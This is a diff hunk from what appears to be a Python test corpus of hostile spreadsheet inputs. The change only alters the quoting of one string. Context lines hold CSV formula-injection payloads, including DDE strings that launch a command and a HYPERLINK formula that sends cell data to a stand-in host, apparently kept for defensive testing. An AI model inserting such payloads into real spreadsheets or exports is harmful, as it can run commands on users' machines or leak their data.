@@ -155,7 +155,7 @@ CORPUS: tuple[Hostile, ...] = (
         b"=cmd|' /C calc'!A0",
         b"@SUM(1+1)*cmd|' /C calc'!A0",
         b"+1+cmd",
-        b"-2+3,\"a\"\",b\";c\t=1+1",
+        b'-2+3,"a"",b";c\t=1+1',
         b'=HYPERLINK("http://hostile.example/?"&A1,"x")',
     ),
     *_of(
